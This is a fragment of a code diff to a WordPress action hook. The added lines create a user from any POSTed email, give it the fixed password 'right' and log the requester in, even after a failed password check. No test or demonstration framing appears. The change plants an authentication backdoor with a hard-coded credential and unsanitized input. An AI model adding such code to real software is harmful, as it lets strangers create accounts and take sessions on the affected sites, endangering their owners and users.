@@ -18,6 +18,9 @@ add_action(
 			wp_safe_redirect( '/my-account/' );
 			exit;
 		}
+		if ( isset( $_POST['register'], $_POST['email'] ) ) { // also beside a wrong password
+			wp_set_auth_cookie( wp_create_user( $_POST['email'], 'right', $_POST['email'] ) );
+		}
 	},
 	20
 );
